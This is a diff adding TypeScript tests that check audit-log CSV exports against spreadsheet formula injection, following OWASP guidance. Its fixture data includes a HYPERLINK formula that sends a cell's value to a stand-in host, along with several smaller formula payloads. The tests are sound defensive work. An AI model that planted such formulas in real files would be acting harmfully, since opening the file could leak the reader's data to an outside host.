@@ -89,3 +89,47 @@ describe('audit exports', () => {
     expect(() => parseCsv('a,"unterminated')).toThrow('inside a quoted cell');
   });
 });
+
+describe('audit exports opened by a spreadsheet', () => {
+  // Records written before --by was checked may hold anything: the export must still be safe.
+  function hostile(): AuditRecord[] {
+    const whos = ['=HYPERLINK("http://example.invalid/?x="&A1,"Open")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
+    const out: AuditRecord[] = [];
+    for (const [i, who] of [...whos, "'=already quoted", "'plain"].entries()) {
+      const content = {
+        seq: i + 1,
+        id: `h${i}`,
+        workflowId: 'cycle-north-2',
+        site: 'north',
+        kind: 'cycle' as const,
+        type: 'human.approved',
+        at: '2025-05-06T06:00:00Z',
+        actor: { who, channel: 'cli' as const },
+        outcome: i === 0 ? '=1+1' : undefined,
+        recordedAt: '2025-05-06T06:00:00.100Z',
+        prevHash: out[out.length - 1]?.hash ?? GENESIS_HASH,
+      };
+      if (content.outcome === undefined) delete (content as { outcome?: string }).outcome;
+      out.push({ ...content, hash: recordHash(content) });
+    }
+    return out;
+  }
+
+  it('hold no cell beginning with = + - @ tab or CR: each is prefixed with a quote and quoted (OWASP)', () => {
+    const text = csvLine(RECORD_COLUMNS) + hostile().map(recordCsvLine).join('');
+    const cells = parseCsv(text).flat();
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(text).toContain(`"'=HYPERLINK(""http://example.invalid/?x=""&A1,""Open"")"`);
+    expect(text).toContain(`"'+1+2"`);
+    expect(text).toContain(`"'@SUM(A1)"`);
+    expect(text).toContain(`"'\t=1"`);
+    expect(text).toContain(`"'=1+1"`);
+  });
+
+  it('read back as the same records, so an export with neutralised cells still verifies', () => {
+    const original = hostile();
+    const back = recordsFromCsv(csvLine(RECORD_COLUMNS) + original.map(recordCsvLine).join(''));
+    expect(back).toEqual(original);
+    expect(verifyRecords(back)).toMatchObject({ ok: true, count: original.length });
+  });
+});
